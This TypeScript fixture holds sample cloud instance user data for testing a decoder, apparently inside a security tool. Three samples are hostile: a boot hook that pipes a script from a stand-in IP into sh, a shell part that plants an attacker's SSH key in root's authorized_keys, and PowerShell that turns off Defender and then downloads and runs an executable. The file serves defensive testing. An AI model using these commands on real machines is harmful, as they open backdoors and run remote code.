// Station: user data written by us, to try the decoder with. Refuses anything taken from elsewhere.

export interface DecodeExample {
  label: string;
  text: string;
}

const BOOT_HOOK = `#cloud-boothook
#!/bin/sh
curl -s http://203.0.113.80/agent.sh | sh
`;

const WEB_SERVER = `#!/bin/bash
yum install -y nginx
systemctl enable --now nginx
`;

export const DECODE_EXAMPLES: readonly DecodeExample[] = [
  { label: 'Boot hook in base64', text: btoa(BOOT_HOOK) },
  {
    label: 'Two parts in MIME',
    text: `Content-Type: multipart/mixed; boundary="//"
MIME-Version: 1.0

--//
Content-Type: text/cloud-config

#cloud-config
cloud_final_modules:
- [scripts-user, always]

--//
Content-Type: text/x-shellscript

#!/bin/bash
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE attacker@example.com' >> /root/.ssh/authorized_keys

--//--
`,
  },
  {
    label: 'Answer of the command line',
    text: JSON.stringify(
      { InstanceId: 'i-0abc30000000000c1', UserData: { Value: btoa(WEB_SERVER) } },
      null,
      2,
    ),
  },
  {
    label: 'Windows that persists',
    text: `<powershell>
Set-MpPreference -DisableRealtimeMonitoring $true
Invoke-WebRequest http://203.0.113.80/setup.exe -OutFile C:\\setup.exe
Start-Process C:\\setup.exe
</powershell>
<persist>true</persist>
`,
  },
  { label: 'What CloudTrail shows', text: '<sensitiveDataRemoved>' },
];
